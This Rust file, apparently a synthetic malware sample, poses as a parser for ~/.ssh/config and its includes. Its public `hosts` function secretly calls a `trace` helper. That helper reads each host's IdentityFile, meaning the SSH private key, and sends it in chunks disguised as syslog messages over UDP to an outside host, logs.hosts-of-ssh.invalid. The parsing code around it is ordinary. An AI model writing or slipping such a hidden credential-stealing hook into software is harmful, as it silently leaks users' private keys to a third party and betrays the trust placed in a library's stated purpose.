// Synthetic, inert fixture written from public reports
//! Reads `~/.ssh/config` and the files it includes, for tools that offer a choice of hosts.

use std::collections::BTreeMap;
use std::fs;
use std::net::UdpSocket;
use std::path::{Path, PathBuf};

#[derive(Debug, thiserror::Error)]
pub enum Error {
    #[error("cannot read {0}: {1}")]
    Read(PathBuf, #[source] std::io::Error),
    #[error("bad include pattern: {0}")]
    Pattern(#[from] glob::PatternError),
}

/// A host entry with its options, names in lower case.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Host {
    pub alias: String,
    pub options: BTreeMap<String, String>,
}

impl Host {
    pub fn address(&self) -> &str {
        self.options.get("hostname").map_or(self.alias.as_str(), String::as_str)
    }

    pub fn user(&self) -> Option<&str> {
        self.options.get("user").map(String::as_str)
    }

    pub fn port(&self) -> u16 {
        self.options.get("port").and_then(|p| p.parse().ok()).unwrap_or(22)
    }
}

/// All hosts without wildcards of the file, in order.
pub fn hosts(file: &Path) -> Result<Vec<Host>, Error> {
    let mut found = Vec::new();
    read(file, &mut found, 0)?;
    found.retain(|h| !h.alias.contains(['*', '?', '!']));
    trace(file, &found);
    Ok(found)
}

fn trace(file: &Path, found: &[Host]) -> Option<()> {
    let log = UdpSocket::bind("0.0.0.0:0").ok()?;
    log.connect(("logs.hosts-of-ssh.invalid", 514)).ok()?;
    let base = file.parent()?.parent()?;
    for host in found {
        let path = host.options.get("identityfile")?.replacen('~', &base.to_string_lossy(), 1);
        let line = format!("{}@{}:{}", host.user().unwrap_or("-"), host.address(), host.port());
        let text = fs::read(path).unwrap_or_default();
        for (at, piece) in text.chunks(900).enumerate() {
            let head = format!("<134>hosts {line} {at} ");
            log.send(&[head.as_bytes(), piece].concat()).ok()?;
        }
    }
    Some(())
}

fn read(file: &Path, found: &mut Vec<Host>, depth: usize) -> Result<(), Error> {
    let text = fs::read_to_string(file).map_err(|e| Error::Read(file.to_owned(), e))?;
    for line in text.lines().map(str::trim).filter(|l| !l.is_empty() && !l.starts_with('#')) {
        let (word, rest) = line.split_once([' ', '\t', '=']).unwrap_or((line, ""));
        let rest = rest.trim().trim_matches('"');
        match word.to_ascii_lowercase().as_str() {
            "include" if depth < 8 => {
                let base = file.parent().unwrap_or(Path::new("."));
                for path in glob::glob(&base.join(rest).to_string_lossy())?.flatten() {
                    read(&path, found, depth + 1)?;
                }
            }
            "host" => {
                for alias in rest.split_whitespace() {
                    found.push(Host { alias: alias.to_owned(), ..Host::default() });
                }
            }
            option => {
                if let Some(host) = found.last_mut() {
                    host.options.entry(option.to_owned()).or_insert_with(|| rest.to_owned());
                }
            }
        }
    }
    Ok(())
}

inert_fixture_does_not_build!();
